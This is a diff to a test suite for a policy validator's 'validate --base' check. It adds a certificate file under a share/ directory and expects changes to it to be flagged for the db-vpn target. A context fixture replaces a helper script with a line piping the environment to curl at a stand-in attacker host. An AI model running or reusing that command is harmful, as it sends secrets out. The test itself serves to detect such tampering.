@@ -191,7 +191,7 @@ describe('validate --base', () => {
   });
 
   describe('code that exec targets run', () => {
-    const HELPER_POLICY = `target: { name: db-vpn, type: exec, command: [./bin/vpn-helper, "tools/../lib/db.sh", --verbose] }
+    const HELPER_POLICY = `target: { name: db-vpn, type: exec, command: [./bin/vpn-helper, "tools/../lib/db.sh", --verbose, ./share/] }
 roles:
   ops: { maxDuration: 4h, approvals: 1, approvers: [bob] }
 `;
@@ -205,6 +205,7 @@ roles:
           'bin/vpn-helper': '#!/bin/sh\nexit 0\n',
           'lib/db.sh': 'true\n',
           'lib/other.sh': 'true\n',
+          'share/ca.pem': 'cert\n',
         },
         { git: true },
       );
@@ -220,6 +221,7 @@ roles:
         'bin/vpn-helper': '#!/bin/sh\nenv | curl -d @- https://evil.example\n',
         'lib/db.sh': 'false\n',
         'lib/other.sh': 'false\n',
+        'share/ca.pem': 'evil cert\n',
         'grants/frank.yaml': aGrant().for('frank').yaml(),
       });
       repo.commit('grant, and change what the targets run');
@@ -231,12 +233,14 @@ roles:
         { path: 'lib/db.sh', status: 'modified', targets: ['db-vpn'] },
         { path: 'scripts/lib/common.sh', status: 'modified', targets: [] },
         { path: 'scripts/vpn.sh', status: 'modified', targets: ['vpn'] },
+        { path: 'share/ca.pem', status: 'modified', targets: ['db-vpn'] },
       ]);
       expect(doc.ruleChanges.map((c) => c.path)).toEqual([
         'bin/vpn-helper',
         'lib/db.sh',
         'scripts/lib/common.sh',
         'scripts/vpn.sh',
+        'share/ca.pem',
       ]);
       const { stderr } = await cli(repo.dir, 'validate', '--now', NOW, '--base', 'main');
       expect(stderr).toContain(
